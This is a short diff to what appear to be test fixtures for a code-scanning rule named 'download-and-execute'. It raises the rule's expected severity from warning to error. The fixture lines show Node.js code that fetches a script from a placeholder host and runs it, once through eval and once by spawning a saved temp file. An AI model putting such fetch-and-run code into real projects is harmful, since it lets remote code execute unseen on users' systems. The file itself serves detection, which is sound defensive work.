@@ -22,7 +22,7 @@ https.get('https://files.example.invalid/c.js', (answer) => {
   });
   answer.on('end', () => {
     eval(body);
-//  ^^^^^^^^^^ download-and-execute: warning
+//  ^^^^^^^^^^ download-and-execute: error
   });
 });
 
@@ -48,7 +48,7 @@ const target = path.join(os.tmpdir(), 'helper.js');
 https.get('https://files.example.invalid/helper.js', (answer) => {
   answer.pipe(fs.createWriteStream(target)).on('finish', () => {
     spawn(process.execPath, [target]);
-//  ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ download-and-execute: warning
+//  ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ download-and-execute: error
   });
 });
 
